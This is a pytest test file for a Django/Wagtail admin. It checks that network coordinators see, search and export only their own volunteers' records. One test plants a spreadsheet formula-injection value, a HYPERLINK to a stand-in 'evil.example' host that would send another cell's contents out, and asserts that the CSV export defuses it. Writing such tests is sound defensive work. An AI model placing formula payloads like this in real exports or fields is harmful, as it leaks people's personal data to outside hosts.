"""A coordinator sees the volunteers of the networks they coordinate and
nothing else (:mod:`networks.admin.permissions`, the viewset's URLs): every
admin URL of the pipeline is tried with another network's volunteer."""

import csv
import io

from django.contrib.auth.models import Group, Permission
from django.contrib.auth.models import User as DjangoUser
from django.db import connection
from django.test.utils import CaptureQueriesContext

from wagtail.models import ModelLogEntry

import pytest

from networks.factories import CoordinatorFactory, VolunteerFactory
from networks.models import Volunteer
from tests.networks.conftest import volunteer_admin

pytestmark = pytest.mark.django_db


OBJECT_URLS = [
    "edit",
    "inspect",
    "history",
    "history_results",
    "usage",
    "delete",
]


def assert_refused(response):
    """Wagtail answers a refused admin page with a redirect to the dashboard
    and a "no permission" message (a 403 for other requests)."""
    assert response.status_code in (302, 403), response.status_code
    if response.status_code == 302:
        assert response["Location"] == "/admin/"


def test_list_shows_only_own_confirmed_volunteers(as_a, volunteers):
    html = as_a.get(volunteer_admin("index")).content.decode()
    assert "Alba de Tapachula" in html
    assert "Bruno de Tenosique" not in html
    assert "Paula sin confirmar" not in html


@pytest.mark.parametrize("view", ["index", "index_results"])
def test_search_never_finds_another_networks_volunteer(as_a, volunteers, view):
    html = as_a.get(volunteer_admin(view), {"q": "Bruno"}).content.decode()
    assert "Bruno de Tenosique" not in html
    html = as_a.get(volunteer_admin(view), {"q": volunteers["b"].email})
    html = html.content.decode()
    assert "Bruno de Tenosique" not in html
    html = as_a.get(volunteer_admin(view), {"q": "Alba"}).content.decode()
    assert "Alba de Tapachula" in html


def test_filtering_by_another_network_shows_nothing_of_it(as_a, volunteers, network_b):
    html = as_a.get(
        volunteer_admin("index"), {"network": network_b.pk}
    ).content.decode()
    assert "Bruno de Tenosique" not in html
    # The filter only offers the coordinator's own networks.
    assert "Red Tenosique" not in html


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_holds_only_own_network(as_a, coordinator_a, volunteers, fmt):
    response = as_a.get(volunteer_admin("index"), {"export": fmt})
    assert response.status_code == 200
    if response.streaming:
        content = b"".join(response.streaming_content)
    else:
        content = response.content
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        names = [row[0] for row in rows[1:]]
        assert names == ["Alba de Tapachula"]
        assert rows[0][:3] == ["Nombre", "Correo electrónico", "Teléfono o WhatsApp"]
    else:
        assert b"Bruno" not in content
    entry = ModelLogEntry.objects.get(action="networks.export")
    assert entry.data == {"volunteers": 1, "format": fmt}
    assert entry.user_id == coordinator_a.pk


def test_csv_export_never_holds_a_formula(as_a, volunteers):
    """Whatever the public typed is text in the coordinator's spreadsheet;
    a phone number keeps its plus sign."""
    alba = volunteers["a"]
    Volunteer.objects.filter(pk=alba.pk).update(
        name='=HYPERLINK("http://evil.example/?"&C2,"clic")',
        municipality="@SUM(1+1)",
        phone="+52 962 111 2222",
    )
    response = as_a.get(volunteer_admin("index"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(content)))[1]
    assert row[0] == '\'=HYPERLINK("http://evil.example/?"&C2,"clic")'
    assert row[2] == "+52 962 111 2222"
    assert row[3] == "'@SUM(1+1)"


def test_csv_export_opens_in_a_spreadsheet_with_its_accents(as_a, volunteers):
    """UTF-8 with a byte order mark, which spreadsheet programs read as
    UTF-8 (without it, Excel shows "LucÃ­a")."""
    Volunteer.objects.filter(pk=volunteers["a"].pk).update(name="Lucía Núñez")
    response = as_a.get(volunteer_admin("index"), {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1][0] == "Lucía Núñez"


@pytest.mark.parametrize("view", OBJECT_URLS)
def test_another_networks_volunteer_is_refused_at_every_url(as_a, volunteers, view):
    volunteer = volunteers["b"]
    for method in ("get", "post"):
        response = getattr(as_a, method)(volunteer_admin(view, volunteer.pk))
        assert_refused(response)
        followed = as_a.get(volunteer_admin(view, volunteer.pk), follow=True)
        assert "Bruno" not in followed.content.decode()
    assert Volunteer.objects.filter(pk=volunteer.pk).exists()


@pytest.mark.parametrize("view", OBJECT_URLS)
def test_a_pending_sign_up_is_refused_too(as_a, volunteers, view):
    assert_refused(as_a.get(volunteer_admin(view, volunteers["pending_a"].pk)))


@pytest.mark.parametrize("view", ["edit", "inspect", "history", "usage"])
def test_own_volunteer_opens(as_a, volunteers, view):
    response = as_a.get(volunteer_admin(view, volunteers["a"].pk))
    assert response.status_code == 200
    assert "Bruno" not in response.content.decode()


def test_coordinators_neither_add_nor_delete_volunteers(as_a, volunteers):
    assert as_a.get(volunteer_admin("add")).status_code in (302, 403)
    response = as_a.post(volunteer_admin("delete", volunteers["a"].pk))
    assert response.status_code in (302, 403)
    assert Volunteer.objects.filter(pk=volunteers["a"].pk).exists()


def test_site_history_never_lists_volunteers_to_coordinators(
    client, coordinator_a, coordinator_b, volunteers
):
    volunteers["b"].add_note("Llamada con Bruno", coordinator_b)
    client.force_login(coordinator_a)
    response = client.get("/admin/reports/site-history/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Bruno" not in html
    assert f"#{volunteers['b'].pk}" not in html


def test_a_coordinator_taken_out_of_the_group_loses_access(
    as_a, coordinator_a, volunteers, network_a
):
    coordinator_a.groups.clear()
    coordinator_a.user_permissions.add(
        *Permission.objects.filter(codename="access_admin")
    )
    html = as_a.get(volunteer_admin("index")).content.decode()
    assert "Alba de Tapachula" not in html
    assert_refused(as_a.get(volunteer_admin("edit", volunteers["a"].pk)))
    assert list(network_a.coordinator_users()) == []


@pytest.mark.parametrize(
    "url",
    [
        "/admin/snippets/networks/protectionnetwork/",
        "/admin/snippets/networks/volunteeropportunity/",
        "/admin/users/",
        "/admin/outgoing_email/",
        "/admin/undeliverable_address/",
    ],
)
def test_coordinators_see_no_other_people_data(as_a, url):
    assert_refused(as_a.get(url))


def test_a_coordinator_of_no_network_sees_no_volunteers(client, volunteers):
    user = CoordinatorFactory()
    client.force_login(user)
    assert client.get(volunteer_admin("index")).status_code in (302, 403)
    assert_refused(client.get(volunteer_admin("edit", volunteers["a"].pk)))
    html = client.get("/admin/").content.decode()
    assert "Alba" not in html


def test_programme_staff_with_the_permission_see_every_network(client, volunteers):

    staff = DjangoUser.objects.create_user("staff", password="x" * 12)
    group = Group.objects.create(name="Programme staff")
    group.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_volunteer"),
    )
    staff.groups.add(group)
    client.force_login(staff)
    html = client.get(volunteer_admin("index")).content.decode()
    assert "Alba de Tapachula" in html and "Bruno de Tenosique" in html
    assert "Paula sin confirmar" not in html
    # Seeing is not editing.
    edit = client.get(volunteer_admin("edit", volunteers["a"].pk))
    assert edit.status_code in (302, 403)


def test_admin_list_queries_do_not_grow_with_volunteers(
    as_a, network_a, django_assert_max_num_queries
):

    VolunteerFactory.create_batch(2, network=network_a)
    as_a.get(volunteer_admin("index"))
    with CaptureQueriesContext(connection) as few:
        as_a.get(volunteer_admin("index"))
    VolunteerFactory.create_batch(20, network=network_a)
    with CaptureQueriesContext(connection) as many:
        as_a.get(volunteer_admin("index"))
    assert len(few) == len(many)
